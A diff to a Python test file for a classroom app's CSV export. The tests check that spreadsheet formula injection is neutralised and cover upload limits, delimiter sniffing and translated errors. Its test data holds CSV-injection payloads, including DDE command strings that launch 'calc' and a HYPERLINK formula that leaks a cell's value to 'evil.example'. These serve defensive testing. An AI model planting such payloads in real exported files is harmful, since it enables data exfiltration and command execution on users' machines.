@@ -8,36 +8,96 @@ import pytest
 
 from attnviz.classroom import export
 
+# OWASP CSV injection: every way a cell can start a formula (or a DDE command).
+FORMULAS = {
+    "equals": "=1+1",
+    "plus": "+cmd",
+    "minus": "-2 awful plot",
+    "at": "@SUM(A1)",
+    "pipe_dde": "|calc",
+    "dde": "=cmd|' /C calc'!A0",
+    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "leading_space": " =1+1",
+    "leading_spaces_and_tab": "  \t=1+1",
+    "leading_newline": "\n=2+2",
+    "leading_crlf": "\r\n+3",
+    "tab": "\tx",
+    "carriage_return": "\rx",
+    "full_width_equals": "\uff1dSUM(A1)",
+    "full_width_plus": "\uff0b1",
+    "full_width_minus": "\uff0d1",
+    "full_width_at": "\uff20SUM(A1)",
+    "full_width_pipe": "\uff5ccalc",
+    "small_equals": "\ufe661+1",
+    "zero_width_space": "\u200b=1+1",
+    "nul_first": "\x00=1+1",
+    "nul_only_first": "\x00hello",
+}
+SAFE = ["fine = ok", "a plain review", "  indented text", "caf\u00e9 \u4f60\u597d", ""]
+
+
+def spreadsheet_would_run(cell):
+    """Independent of export.is_formula: what Excel/LibreOffice treat as a formula start."""
+    import unicodedata
+
+    if cell[:1] in ("\t", "\r", "\n", "\x00"):
+        return True
+    visible = [c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf")]
+    return bool(visible) and unicodedata.normalize("NFKC", visible[0])[0] in "=+-@|"
+
+
+def exported_cells(frame):
+    """Every cell of the CSV that `to_csv_bytes(frame)` writes, read back from the bytes."""
+    import csv
+
+    data = export.to_csv_bytes(frame)
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+@pytest.mark.parametrize("name", sorted(FORMULAS))
+def test_each_formula_payload_is_text_in_the_exported_file(name):
+    payload = FORMULAS[name]
+    assert spreadsheet_would_run(payload)  # the payload is a real threat
+    header, row = exported_cells(pd.DataFrame({"text": [payload], "id": ["7"]}))
+    assert header == ["text", "id"]
+    cleaned = payload.replace("\x00", "")  # NUL is dropped; the rest is kept
+    assert row[0] == ("'" + cleaned if spreadsheet_would_run(cleaned) else cleaned)
+    assert not spreadsheet_would_run(row[0])
+    assert row[1] == "7"
+
+
+def test_safe_text_and_numbers_are_exported_unchanged():
+    frame = pd.DataFrame({"text": SAFE, "n": [-1.5, 2.0, 3.0, 0.0, -7.25]})
+    header, *rows = exported_cells(frame)
+    assert [r[0] for r in rows] == SAFE
+    assert [r[1] for r in rows] == ["-1.5", "2.0", "3.0", "0.0", "-7.25"]  # numbers stay
+
+
+def test_column_names_are_neutralised_and_the_input_frame_is_not_changed():
+    frame = pd.DataFrame({"=HYPERLINK(1)": ["=cmd|' /C calc'!A0", "plain", "@x"]})
+    header, *rows = exported_cells(frame)
+    assert header == ["'=HYPERLINK(1)"]
+    assert [r[0] for r in rows] == ["'=cmd|' /C calc'!A0", "plain", "'@x"]
+    assert frame.iloc[0, 0] == "=cmd|' /C calc'!A0"
+
 
 @pytest.mark.parametrize(
-    ("value", "expected"),
+    ("data", "delimiter"),
     [
-        ("=1+2", "'=1+2"),
-        ("+cmd", "'+cmd"),
-        ("-2", "'-2"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tx", "'\tx"),
-        ("\rx", "'\rx"),
-        ("fine = ok", "fine = ok"),
-        ("", ""),
-        (-2.5, -2.5),
-        (None, None),
+        (b'id,text,stars\n1,"Great, really; fine",5\n2,bad,1\n', ","),
+        (b"id;text;stars\n1;Great, really, truly;5\n2;bad, awful;1\n", ";"),
+        (b"id\ttext\tstars\n1\tGreat, really; fine\t5\n2\tbad\t1\n", "\t"),
+        (b"text\nGreat, really\n", ","),  # one column: commas are text
     ],
+    ids=["comma", "semicolon", "tab", "single_column"],
 )
-def test_neutralize_formula(value, expected):
-    assert export.neutralize_formula(value) == expected
-
-
-def test_csv_bytes_are_safe_to_open_in_a_spreadsheet():
-    frame = pd.DataFrame(
-        {"=HYPERLINK(1)": ["=cmd|' /C calc'!A0", "plain", "@x"], "n": [-1.5, 2.0, 3.0]}
-    )
-    data = export.to_csv_bytes(frame)
-    back = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
-    assert list(back.columns) == ["'=HYPERLINK(1)", "n"]
-    assert list(back.iloc[:, 0]) == ["'=cmd|' /C calc'!A0", "plain", "'@x"]
-    assert list(back["n"]) == ["-1.5", "2.0", "3.0"]  # numbers stay numbers
-    assert frame.iloc[0, 0] == "=cmd|' /C calc'!A0"  # the input frame is not changed
+def test_the_delimiter_is_sniffed(data, delimiter):
+    frame = export.read_csv_upload(data)
+    assert frame.attrs["delimiter"] == delimiter
+    if delimiter != "," or frame.shape[1] > 1:
+        assert list(frame.columns) == ["id", "text", "stars"]
+        assert frame["stars"].tolist() == ["5", "1"]
+        assert frame["text"].iloc[0].startswith("Great, really")
 
 
 def test_read_csv_upload():
@@ -46,19 +106,42 @@ def test_read_csv_upload():
     assert frame.iloc[0, 0] == "a, b"
 
 
+def test_a_very_wide_file_is_refused_from_its_header():
+    columns = 400_000
+    data = (
+        ",".join(f"c{i}" for i in range(columns)) + "\n" + "x," * (columns - 1) + "x\n"
+    ).encode()
+    with pytest.raises(export.TableError, match="400,000 columns") as caught:
+        export.read_csv_upload(data)
+    assert caught.value.key == "csv.too_many_columns"
+    assert caught.value.fields == {"count": columns, "limit": export.MAX_COLUMNS}
+
+
+def test_a_huge_cell_is_refused_naming_row_and_column():
+    data = ("id,text\n1,short\n2," + "x" * (export.MAX_CELL_CHARS + 1) + "\n").encode()
+    with pytest.raises(export.TableError) as caught:
+        export.read_csv_upload(data)
+    assert caught.value.key == "csv.cell_too_long"
+    assert caught.value.fields["row"] == 2 and caught.value.fields["column"] == "text"
+
+
 @pytest.mark.parametrize(
-    ("data", "message"),
+    ("data", "key", "message"),
     [
-        (b"", "empty"),
-        (b"  \n ", "empty"),
-        (b"text\n", "no rows"),
-        ("text\ncaf\u00e9\n".encode("latin-1"), "not UTF-8"),
-        (b"a\n" + b"x" * 200, "limit"),
+        (b"", "csv.empty", "empty"),
+        (b"  \n ", "csv.empty", "empty"),
+        (b"text\n", "csv.no_rows", "no rows"),
+        ("text\ncaf\u00e9\n".encode("latin-1"), "csv.not_utf8", "not UTF-8"),
+        (b"a\n" + b"x" * 200, "csv.too_large", "limit"),
     ],
 )
-def test_read_csv_upload_errors(data, message):
-    with pytest.raises(export.TableError, match=message):
+def test_read_csv_upload_errors(data, key, message):
+    from attnviz.i18n import t
+
+    with pytest.raises(export.TableError, match=message) as caught:
         export.read_csv_upload(data, max_bytes=100)
+    assert caught.value.key == key
+    assert t(key, "zh", **caught.value.fields) != str(caught.value)  # translated
 
 
 def test_split_lines_and_has_letters():
